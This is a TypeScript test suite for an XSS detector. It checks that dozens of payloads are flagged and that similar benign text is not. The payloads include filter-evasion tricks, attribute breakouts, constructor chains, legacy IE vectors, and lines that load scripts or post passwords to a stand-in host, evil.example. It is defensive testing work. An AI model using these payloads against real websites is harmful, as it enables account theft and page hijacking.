// XSS technique classes beyond the classic tag-and-handler payloads: JavaScript without markup,
// breakouts, markup that loads content, filter-splitting comments, legacy IE/Netscape vectors,
// exotic separators and handlers. Each class has positives (written for this file in the shape
// of the class) and look-alike ordinary input that must stay silent at the default level.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createDetector } from '@secotel/detect';
import type { DetectRequest, Finding } from '@secotel/detect';

const level1 = createDetector({ categories: ['xss'] });
const level2 = createDetector({ categories: ['xss'], level: 2 });

function inQuery(value: string): DetectRequest {
  return { method: 'GET', path: '/search', query: { q: value }, headers: {}, cookies: {} };
}

function xss(findings: Finding[]): Finding[] {
  return findings.filter((f) => f.rule.category === 'xss');
}

function assertFound(values: readonly string[], ruleIds?: readonly string[], detector = level1): void {
  for (const value of values) {
    const found = xss(detector.detect(inQuery(value)));
    assert.ok(found.length > 0, `expected xss in ${JSON.stringify(value)}`);
    if (ruleIds !== undefined) {
      assert.ok(ruleIds.includes(found[0]!.rule.id), `${JSON.stringify(value)}: got ${found[0]!.rule.id}, expected one of ${ruleIds.join(', ')}`);
    }
  }
}

function assertClean(values: readonly string[], detector = level1): void {
  for (const value of values) {
    const found = xss(detector.detect(inQuery(value)));
    assert.deepEqual(found.map((f) => `${f.rule.id} ${f.fragment}`), [], `unexpected finding in ${JSON.stringify(value)}`);
  }
}

describe('xss: JavaScript without markup', () => {
  it('finds sinks reached through globals indexed by strings or computed names', () => {
    assertFound([
      'self["prompt"](42)', "parent['con'+'firm'](7)", 'top[/al/.source+/ert/.source](1)', 'frames[`eval`]("x")',
      'window[524419..toString(36)](2)', '(document)["cookie"]', '(document /* c */)["cookie"]', 'globalThis["alert"]`9`',
    ], ['xss-010', 'xss-005']);
  });

  it('finds sink calls with a literal, decoders and string timers', () => {
    assertFound([
      '(confirm)(3)', '(0, eval)("1+1")', 'eval(unescape("%61lert(5)"))', "setTimeout('location=name')",
      'setInterval`x`', 'prompt(/xss/.source)', 'confirm`ok`', 'x=1;alert(document.domain)', 'msgbox("vb")',
      'eval(String.fromCharCode(97,108))', 'new ActiveXObject("htmlfile")',
    ], ['xss-010', 'xss-005']);
  });

  it('finds sinks passed as callbacks, called optionally or through call/apply, and remote module imports', () => {
    assertFound([
      '[7].map(confirm)', 'prompt?.(3)', 'confirm.call(null, 2)', 'eval.apply(0, ["x"])', "import('//evil.example/m.js')",
      '{onerror=prompt}throw 5', "';self.onerror=eval;throw'=confirm\\x281\\x29'//",
    ], ['xss-004', 'xss-005', 'xss-010']);
    assertClean(['fire(alert) drills', 'the (alert) was raised', "import('./module.js')", 'alert.mp3 (2 MB)']);
  });

  it('finds constructor chains, tagged-template calls and JSFuck', () => {
    assertFound([
      '[]["constructor"]["constructor"]("x")()', "''.constructor.constructor('y')()", '{}.constructor.constructor`z```',
      '[].map.call`${eval}x`', '[ ].sort.call`${confirm}`', '(!![]+[])[+[]]+(![]+[])[!+[]+!+[]]',
      'document.write("<b>")', 'x=(document.cookie)',
    ], ['xss-010', 'xss-006']);
  });

  it('leaves prose and everyday code about these words alone', () => {
    assertClean([
      'How do I use alert() in JavaScript?', 'alert (urgent): server down', 'window [of opportunity]', 'top [10] albums',
      'use setTimeout(fn, 100) to defer', 'eval(expression) is slow', 'The "constructor" field is required',
      'constructor.prototype is where methods live', '[1, 2, 3].map((x) => x * 2)', 'see [] and () below',
      'self-service (beta)', 'the document (final).docx', 'window.location is read-only', 'Hi (alert me) at 5',
      "function confirm() { return true; }", 'Error: cannot read properties of undefined (reading \'top\')',
    ]);
  });
});

describe('xss: string and attribute breakouts', () => {
  it('finds quotes closed into handlers, with or without a value', () => {
    assertFound([
      '" autofocus onfocus=go() x="', "' onpointerenter='x'", '"onzoom=', "'formaction=//evil.example/", 'x;onfocus=eval(name)',
      "' onselect=$.get('//evil.example') '", '"/onwheel=x()', '(q);onfocus=x', '"x"/onmouseover=y',
    ], ['xss-004']);
  });

  it('finds string breakouts into a sink and tags opened after a quote', () => {
    assertFound(["'-prompt(8)-'", '";confirm`1`//', '"><svg onload=x>', "'><details open ontoggle=y()>"]);
  });

  it('leaves quoted words and prose about handlers alone', () => {
    assertClean(['He said "onload" is deprecated', 'onload = init;', 'we are "online" soon', "O'Brien on the road"]);
  });
});

describe('xss: markup that loads or redirects', () => {
  it('finds meta refresh, base href, plugins, external stylesheets and formaction at level 1', () => {
    assertFound([
      '<meta http-equiv="Refresh" content="3; url=https://evil.example/">', '<META HTTP-EQUIV="Set-Cookie" Content="a=b">',
      '<base href="https://evil.example/">', '<base target=_top href=//evil.example>', '<embed src=//evil.example/m.swf>',
      '<object data="https://evil.example/x.pdf" type="application/pdf">', '<applet code=X.class archive=//evil.example/x.jar>',
      '<link rel="stylesheet" href="//evil.example/s.css">', '<link rel=import href=/x.html>',
      '<style>@import "//evil.example/s.css";</style>', '<style>@im\\port "x.css";</style>', '<button formaction="https://evil.example/">send</button>',
      '<iframe src=https://evil.example/frame.html>', '<iframe src="https://evil.example/frame.html" <',
      '<iframe src="http://evil.example/f.html"></iframe>', '<iframe src="https://evil.example:8443/f"></iframe>',
      '<layer src="https://evil.example/l.html">', '<meta charset="UTF-7">', '<embed src="clip.swf">',
      '<form action="https://evil.example/l"><input type="password" name="pw"></form>', '"><img src=\'//evil.example/?',
      '<a href="http://3232235777/">x</a>', '<img src="//0x7f.0x0.0x0.0x1/a.png">',
    ], ['xss-007', 'xss-008']);
  });

  it('leaves rich-text links, images, styles and video embeds alone at level 1', () => {
    assertClean([
      '<p>See <a href="https://www.example.com/blog" target="_blank" rel="noopener">the blog</a>.</p>',
      '<p><img src="https://cdn.example.com/u/2024/photo.jpg" alt="Store" width="600"></p>',
      '<iframe width="560" height="315" src="https://www.youtube.com/embed/abc123" title="Video" frameborder="0" allowfullscreen></iframe>',
      '<p><span style="color: #e03e2d; background: url(\'https://cdn.example.com/bg.png\')">Sale</span></p>',
      '<!DOCTYPE html><html><head><meta charset="utf-8"><title>T</title></head><body><p>x</p></body></html>',
      '<?xml version="1.0"?><rss version="2.0"><channel><link>https://www.example.com/</link></channel></rss>',
      '<link rel="canonical" href="https://www.example.com/">', '<form><input name="q"></form>', 'what is <meta charset> for',
      '<embed src="/files/brochure.pdf" type="application/pdf" width="100%">', '<a href="http://192.168.1.1/">router</a>',
      '<html><head><link href="https://fonts.example.com/css?family=Lato" rel="stylesheet"><style>@import url("https://fonts.example.com/a.css");</style></head><body>Hi</body></html>',
      '<!doctype html><html><head><base href="/"></head><body><app-root></app-root></body></html>',
      '<p class=MsoNormal>Hi<?xml:namespace prefix = o ns = "urn:schemas-microsoft-com:office:office" /><o:p></o:p></p>',
      '<meta name=ProgId content=Word.Document><link rel=File-List href="file:///C:/x/filelist.xml"><!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]-->',
      '<link type="text/css" rel="stylesheet" href="/assets/site.css"><style>@import "theme.css";</style>',
    ]);
  });

  it('reports quoted external frames and forms only at level 2', () => {
    const frame = '<iframe src="https://evil.example/frame.html" width="1" height="1"></iframe>';
    assertClean([frame]);
    assertFound([frame, '<form action="https://evil.example/login" method="post">'], ['xss-011'], level2);
  });
});

describe('xss: filter evasion', () => {
  it('rejoins words split by comments and CDATA sections', () => {
    assertFound([
      '<scr<!-- x -->ipt src=//evil.example/a.js>', '<a href="java<!-- -->script:go()">x</a>',
      '<img src="jav]]><![CDATA[ascript:go()">', '<img src="javas<![CDATA[cript:go()">',
    ], ['xss-001', 'xss-003']);
  });

  it('finds unusual separators, junk after handler names and exotic handlers', () => {
    assertFound([
      '<svg\fonload=x>', '<img src=x onerror\u000b=x>', '<img+src=x+onerror=x()>', '<body onload!#$%&*=x>',
      '<form onforminput=x>', '<svg onzoom=x>', '<x onbeforeactivate=x>', '<x onwebkitplaybacktargetavailabilitychanged=x>',
      '<video onloadend=x>', '<x onanimationcancel=x>',
    ], ['xss-002']);
  });

  it('finds namespaced script tags, closing script tags and bracketless scripts', () => {
    assertFound([
      '<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="//evil.example/a.js"/>', 'x</script><p>',
      '&lt;y:script xmlns:y=&quot;http://www.w3.org/1999/xhtml&quot;&gt;',
    ], ['xss-001']);
    assertFound(['script>alert(4)/script', '"[x]script>document.cookie=1[x]/script>'], ['xss-001', 'xss-010']);
  });

  it('finds script URLs with whitespace or entities inside the scheme', () => {
    assertFound(['<img src="jav ascript:go()">', 'ja&Tab;vascript:', '<a href="data:application/x-foo;base64,PHNjcmlwdD4=">x</a>',
      '<a href="javascript://%0ago()">x</a>', '<a href="javascript:void(0);go()">x</a>'], ['xss-003']);
  });

  it('leaves javascript:void(0) placeholders of pasted rich text alone', () => {
    assertClean(['<a href="javascript:void(0)" class="btn">Menu</a>', '<a href="javascript:;">Close</a>', 'a=1; ondomain=x "y"']);
  });
});

describe('xss: legacy browser vectors', () => {
  it('finds CSS expressions, bindings and behaviors however they are escaped', () => {
    assertFound([
      '<p style="w:expr/* a */ession(go())">', '<p style="w:\\65 xpression(go())">', '<p style="behaviour: url(x.htc)">',
      '<style>p{-moz-binding:url(//evil.example/b.xml#x)}</style>', 'a:expression(go())',
      '<style type="text/javascript">alert(1)</style>', 'background: url( javascript : alert(1) )',
    ], ['xss-003', 'xss-007', 'xss-010']);
  });

  it('finds XML data islands, HTC behaviors, VML, UTF-7 and JavaScript entities', () => {
    assertFound([
      '<xml id="d"><x>1</x></xml>', '<span datasrc="#d" datafld="x" dataformatas="html">', '<?import namespace="v" implementation="#default#VML">',
      '<v:vmlframe src="x.vml#a"/>', '+ADw-script+AD4-go()', '<br size="&{go()}">', '&{(go())};',
      '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">',
    ], ['xss-001', 'xss-009']);
  });

  it('finds letter-by-letter tag names and high-bit angle brackets', () => {
    assertFound(['$<f o r m action=x', "'<d i a l o g open", '%BCscript%BEgo(1)%BC/script%BE'], ['xss-009']);
    assertClean(['<a b c> is a list', 'a <s o> b', 'add 1/4 cup of sugar (about 3/4 oz)']);
  });

  it('finds SVG animation writing a handler', () => {
    assertFound(['<set attributeName="onclick" to="x()"/>', '<animate attributename=onload to=x>'], ['xss-002']);
  });

  it('leaves ordinary CSS and expression words alone', () => {
    assertClean([
      '<p style="text-align: center">x</p>', 'the expression (a+b) is', 'Expression: (x + y)', 'regular expression (regex)',
      '<![CDATA[some text]]>', '<!-- comment --><p>text</p>',
    ]);
  });
});
